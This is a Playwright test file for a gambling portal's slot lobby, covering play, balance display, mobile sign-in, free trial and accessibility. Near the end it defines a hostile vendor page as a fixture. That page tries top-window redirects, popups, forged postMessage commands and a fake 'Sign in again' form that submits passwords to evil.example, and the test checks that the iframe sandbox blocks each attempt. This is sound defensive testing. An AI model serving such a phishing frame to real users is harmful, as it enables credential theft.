import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { calls } from '@banyan/contract/calls.ts'
import type { FrameLocator, Page } from '@playwright/test'
import { axeFaults } from './axe-faults.ts'
import { addressOfFrames, expect, holdSession, test, tiles } from './running-portal.ts'

test.use({ baseURL: addressOfFrames })

/** Whose money no other test looks at. */
const member = 'minhpham'
/** A page of slots that the sandbox deals. */
const slots = '/rng?vassalage=PG'
const phone = { viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true } as const

const frameOf = (page: Page) => page.frameLocator('iframe')
const header = (page: Page) => page.getByRole('banner').getByRole('group', { name: 'Balance' })

/** Digits of an amount alone: whole đồng, for every win of a slot is some of them. */
async function amount(game: FrameLocator, id: string): Promise<number> {
  return Number((await game.locator(`#${id}`).innerText()).replace(/[^\d−-]/g, '').replace('−', '-'))
}

async function spin(game: FrameLocator, rounds: number): Promise<void> {
  // Its script is there once it has chosen a stake.
  await expect(game.locator('#stake')).not.toBeEmpty()
  for (let round = 1; round <= rounds; round++) {
    await game.locator('#go').press('Enter')
    await expect(game.locator('#past [data-round]')).toHaveCount(round)
  }
}

test('[PLAY-01] [PLAY-03] [WAL-03] a member plays a slot over the lobby by keyboard, and the header follows', async ({
  page,
  operator,
}) => {
  await holdSession(page, operator, member)
  await page.goto(slots)
  const first = tiles(page).first()
  const name = (await first.getByRole('heading').textContent()) ?? ''
  await first.getByRole('link').press('Enter')
  const popup = page.getByRole('dialog', { name })
  const game = frameOf(page)
  await expect(game.getByText('Real money', { exact: true })).toBeVisible()
  await spin(game, 3)
  const balance = await amount(game, 'balance')
  expect(await axeFaults(page)).toEqual([])
  await popup.getByRole('button', { name: 'Leave the game' }).press('Enter')
  await expect(popup).toHaveCount(0)
  await expect(first.getByRole('link')).toBeFocused()
  await expect.poll(async () => Number((await header(page).innerText()).replace(/\.\d\d\b|\D/g, ''))).toBe(balance)
  // What was started last comes first.
  await page.goto('/recent')
  await expect(tiles(page).first().getByRole('heading')).toHaveText(name)
})

test.describe('on a phone', () => {
  test.use(phone)

  test('[PLAY-01] [NAV-09] a visitor signs in on the way to a game, and plays it full-frame', async ({
    page,
    operator,
  }) => {
    await page.goto(slots)
    const link = tiles(page).first().getByRole('link')
    const address = await link.getAttribute('href')
    // Where neither heart nor trial is.
    await link.tap({ position: { x: 30, y: 90 } })
    await expect(page.getByRole('dialog', { name: 'Log in' })).toBeVisible()
    await expect(page.locator('iframe')).toHaveCount(0)
    await holdSession(page, operator, member)
    await page.goto(address ?? '')
    await expect(frameOf(page).getByText('Real money', { exact: true })).toBeVisible()
    const box = await page.locator('iframe').boundingBox()
    expect(box?.width).toBe(390)
    expect(box?.height).toBeGreaterThan(780)
    await frameOf(page).getByRole('button', { name: 'Leave' }).tap()
    await expect(tiles(page).first()).toBeVisible()
  })

  test('[PLAY-01] a visitor tries a slot for free, without a wallet', async ({ page }) => {
    await page.goto(slots)
    await page
      .getByRole('button', { name: /^Free trial/ })
      .first()
      .tap()
    await expect(frameOf(page).getByText('Play money', { exact: true })).toBeVisible()
    await expect(page.getByText('Play money', { exact: true })).toBeVisible()
    expect(await axeFaults(page)).toEqual([])
  })
})

/** A vendor's page that tries what a frame must not. */
const hostile = `<!doctype html><title>Game</title><script>
const tell = (data, target = '*') => parent.postMessage(data, target)
try { top.location = 'https://evil.example/login' } catch {}
try { parent.document.title = 'stolen' } catch {}
try { open('https://evil.example/login') } catch {}
try { alert('Sign in again') } catch {}
tell({ banyan: 1, kind: 'login', password: true }); tell('leave'); tell({ banyan: 2, kind: 'leave' })
const inner = document.createElement('iframe')
inner.srcdoc = '<script>top.postMessage({ banyan: 1, kind: "leave" }, "*")</scr' + 'ipt>'
document.documentElement.append(inner)
const send = (target) => {
  const form = document.forms[0]
  form.target = target
  form.submit()
}
inner.onload = () => {
  send('_top')
  send('_blank')
  document.title = 'tried'
}
addEventListener('message', () => send('_self'))
</script><h1>Sign in again</h1><form action="https://evil.example/"><input name="password" type="password"></form>`

test('[PLAY-03] a hostile game leads nowhere, opens nothing and speaks for nobody', async ({
  page,
  operator,
  sandbox,
  complaints,
}) => {
  const server = createServer((_, response) => response.setHeader('content-type', 'text/html').end(hostile))
  await holdSession(page, operator, member)
  // At the very origin of the games, as a vendor that was taken over would be.
  await page.route(`${sandbox.vendors.address}/play/*`, (route) =>
    route.fulfill({ contentType: 'text/html', body: hostile }),
  )
  const reached: string[] = []
  await page.context().route('https://evil.example/**', async (route) => {
    reached.push(route.request().url())
    await route.abort()
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const elsewhere = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`
  await page.goto(slots)
  const pages = page.context().pages().length
  await expect(page).toHaveTitle(/Slots/)
  await tiles(page)
    .first()
    .getByRole('link')
    .click({ position: { x: 20, y: 40 } })
  const frame = page.frames()
  await expect(frameOf(page).getByRole('heading', { name: 'Sign in again' })).toBeVisible()
  await expect.poll(() => page.frames().length).toBeGreaterThan(frame.length)
  await expect.poll(() => page.frames()[1]?.title()).toBe('tried')
  await expect(page.getByRole('dialog')).toHaveCount(1)
  expect(page.context().pages()).toHaveLength(pages)
  await expect(page).toHaveTitle(/Slots/)
  expect(new URL(page.url()).pathname).toBe('/rng')
  // What somebody types into its false sign-in goes nowhere: the frame can't be led to another origin either.
  await page.locator('iframe').evaluate((frame: HTMLIFrameElement) => frame.contentWindow?.postMessage('send', '*'))
  await expect.poll(() => complaints.some((text) => text.includes('frame-src'))).toBe(true)
  expect(new URL(page.url()).pathname).toBe('/rng')
  expect(reached).toEqual([])
  // An address that is not the merchant's is not opened at all.
  await page.route(`**${calls.launchGame.path}`, (route) =>
    route.fulfill({ json: { success: true, value: { url: elsewhere } } }),
  )
  await page.getByRole('button', { name: 'Leave the game' }).click()
  await tiles(page)
    .first()
    .getByRole('link')
    .click({ position: { x: 20, y: 40 } })
  await expect(page.getByText('Invalid URL, please contact customer service.')).toBeVisible()
  await expect(page.locator('iframe')).toHaveCount(0)
  server.close()
  // The browser tells of each thing that it kept the frame from; what it shows in its place has no storage.
  const known = /sandbox|Blocked a frame|allow-popups|allow-modals|frame-src|Access is denied for this document/i
  expect(complaints.splice(0).filter((text) => !known.test(text))).toEqual([])
})
